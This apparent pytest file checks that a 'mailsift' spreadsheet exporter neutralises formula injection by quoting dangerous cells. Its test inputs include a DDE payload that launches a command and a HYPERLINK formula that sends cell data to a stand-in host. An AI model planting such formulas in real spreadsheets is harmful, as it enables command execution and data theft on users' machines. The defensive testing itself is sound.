from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mailsift.api.spreadsheets import inert, records


@pytest.mark.parametrize(
    "cell",
    [
        *("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1", "  =1"),
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("https://x.example/?"&A1)',
    ],
)
def test_a_cell_that_a_spreadsheet_would_run_is_text(cell: str) -> None:
    assert inert(cell) == f"'{cell}"


@pytest.mark.parametrize("cell", ["", " ", "ann@example.com", "a=b", "12", "'=1", '"=1"'])
def test_any_other_cell_stays_as_it_is(cell: str) -> None:
    assert inert(cell) == cell


@given(st.lists(st.lists(st.text(st.characters(codec="utf-8", exclude_characters="\0")), min_size=2), max_size=5))
def test_a_record_reads_back_less_the_apostrophe(rows: list[list[str]]) -> None:
    read = list(csv.reader(io.StringIO(records(rows).decode(), newline="")))
    assert read == [[inert(cell) for cell in row] for row in rows]
    assert all(cell.lstrip(" ")[:1] not in set("=+-@\t\r\n") or not cell.strip(" ") for row in read for cell in row)
